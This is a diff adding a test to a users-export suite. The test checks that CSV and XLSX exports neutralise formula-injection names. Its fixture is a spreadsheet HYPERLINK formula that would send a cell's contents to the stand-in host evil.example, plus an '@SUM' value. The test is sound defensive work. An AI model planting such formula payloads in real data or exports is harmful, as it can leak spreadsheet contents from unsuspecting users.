@@ -86,4 +86,27 @@ describe('users export job', () => {
     expect(csv).not.toContain(DEMO_ACCOUNTS.vendorAdmin);
     expect(csv).not.toContain(DEMO_ACCOUNTS.providerAdmin);
   });
+
+  it('writes a name that is a formula as text: the CSV cell cannot run in a spreadsheet, the XLSX cell is a string', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+    const pm = await t.signIn(DEMO_ACCOUNTS.clientPm);
+    const profile = await t.http<{ phoneCode: string | null; phoneNumber: string | null }>('GET', '/v1/users/profile', { token: pm.accessToken });
+    const renamed = await t.http('PATCH', '/v1/users/profile', {
+      token: pm.accessToken,
+      body: { firstName: evil, lastName: '@SUM(1+1)', phoneCode: profile.body.phoneCode, phoneNumber: profile.body.phoneNumber },
+    });
+    expect(renamed.status).toBe(200);
+
+    const admin = await t.signIn(DEMO_ACCOUNTS.clientAdmin);
+    const csv = (await download(admin, (await runExport(admin, 'csv')).id)).bytes.toString('utf8');
+    const line = csv.split('\r\n').find((l) => l.includes(DEMO_ACCOUNTS.clientPm));
+    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",'@SUM(1+1),`)).toBe(true);
+    expect(csv).not.toMatch(/(^|,|\r\n)[=@]/);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await download(admin, (await runExport(admin, 'xlsx')).id)).bytes as unknown as ArrayBuffer);
+    const row = workbook.getWorksheet('Users')?.getRows(2, 100)?.find((r) => r.getCell(3).value === DEMO_ACCOUNTS.clientPm);
+    expect(row?.getCell(1).type).toBe(ExcelJS.ValueType.String);
+    expect(row?.getCell(1).value).toBe(evil);
+  });
 });
